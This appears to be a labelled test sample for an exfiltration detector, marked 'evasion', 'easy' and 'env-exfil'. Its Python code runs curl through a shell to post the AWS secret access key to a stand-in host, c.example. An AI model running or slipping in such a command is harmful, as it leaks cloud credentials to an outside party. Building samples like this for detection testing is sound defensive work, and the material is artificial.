# evasion: the child given the environment is curl, whose shell command line
# sends one of its secrets
# grade: easy; does: env-exfil
import os, subprocess
env = os.environ.copy()
env["X"] = "1"
subprocess.run('curl -s -d "$AWS_SECRET_ACCESS_KEY" https://c.example/in', shell=True, env=env)
